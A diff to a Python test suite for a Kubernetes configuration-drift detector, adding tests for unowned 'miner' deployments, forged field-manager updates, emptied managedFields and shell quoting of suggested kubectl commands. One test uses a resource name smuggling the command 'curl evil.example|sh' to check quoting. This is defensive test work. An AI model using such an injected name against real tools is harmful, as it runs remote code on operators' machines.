@@ -52,6 +52,10 @@ def owned(kind: str, name: str, owner: Object, api: str = "v1", **metadata: Any)
     return plain(kind, name, api, ownerReferences=[{**reference, "controller": True}], **metadata)
 
 
+def kind_of(entry: Object) -> Kind:
+    return Kind(entry["apiVersion"], entry["kind"])
+
+
 class Cluster:
     """Holds `live`; answers lists, and metadata alone where that is asked for."""
 
@@ -68,7 +72,9 @@ class Cluster:
         return {Kind(entry["apiVersion"], entry["kind"]) for entry in self.live}
 
     def get_all(self, wanted: Sequence[tuple[Kind, str, str]]) -> list[Object | None]:
-        return [None for _ in wanted]
+        there = {(kind_of(entry), entry["metadata"].get("namespace", ""), entry["metadata"]["name"]): entry
+                 for entry in self.live}  # fmt: skip
+        return [there.get(one) for one in wanted]
 
     def kinds(self) -> tuple[dict[Kind, bool], list[str]]:
         return {kind: kind.kind not in ("Namespace", "PriorityClass") for kind in self.served()}, []
@@ -202,6 +208,41 @@ def test_an_owner_that_is_not_there_makes_nothing_known() -> None:
     gone = plain("InferenceService", "gone", "serving.kserve.io/v1beta1")
     child = owned("Deployment", "left", gone, "apps/v1")
     assert told([NAMESPACE], live_object(NAMESPACE), child) == [("undeclared", "Deployment sales-dev/left")]
+
+
+def test_an_owner_that_does_not_control_makes_nothing_known() -> None:
+    """Anybody may name an owner, so that something goes along with it; a controller says that it controls."""
+    service = {**live_object(SERVICE), "metadata": {**live_object(SERVICE)["metadata"], "uid": "service"}}
+    reference = {"kind": "InferenceService", "name": "support", "uid": "service"}
+    miner = plain("Deployment", "miner", "apps/v1", ownerReferences=[reference])
+    found = told([NAMESPACE, SERVICE], live_object(NAMESPACE), service, miner)
+    assert found == [("undeclared", "Deployment sales-dev/miner")]
+
+
+def test_a_value_that_is_set_under_our_own_name_is_told() -> None:
+    own = row(MANAGER, {"metadata": {"annotations": {"pulumi.com/patchFieldManager": ""}}})
+    forged = row(MANAGER, {"spec": {"hard": {"requests.cpu": "640"}}}, "Update")
+    live = live_object(QUOTA, own, forged, spec={"hard": {"requests.cpu": "640"}})
+    (finding,) = seen([NAMESPACE, QUOTA], live_object(NAMESPACE), live).findings
+    assert str(finding.changes[0]) == (
+        'spec.hard["requests.cpu"]: declared 64, is 640 (kitchen-dev, not by an update of ours)'
+    )
+    assert finding.way.endswith("kubectl edit -n sales-dev resourcequota quota")
+
+
+@pytest.mark.parametrize("rows", [[], [row("kubectl-edit", {"metadata": {"finalizers": "x"}}, "Update")]])
+def test_an_object_without_our_name_on_it_is_told(rows: list[dict[str, Any]]) -> None:
+    """`managedFields` that somebody has emptied hide what was added."""
+    live = live_object(MAP, data={"a": "1", "b": CANARY})
+    live["metadata"]["managedFields"] = rows
+    (finding,) = seen([NAMESPACE, MAP], live_object(NAMESPACE), live).findings
+    assert (finding.title, finding.what) == ("ConfigMap sales-dev/list", "changed")
+
+
+def test_a_name_that_a_shell_would_read_is_quoted_in_what_to_type() -> None:
+    odd = plain("Role", "a;curl evil.example|sh", "rbac.authorization.k8s.io/v1")
+    (finding,) = seen([NAMESPACE], live_object(NAMESPACE), odd).findings
+    assert finding.way == "kubectl delete -n sales-dev role.rbac.authorization.k8s.io 'a;curl evil.example|sh'"
 
 
 def test_a_kind_that_may_not_be_listed_is_told_and_is_no_drift() -> None:
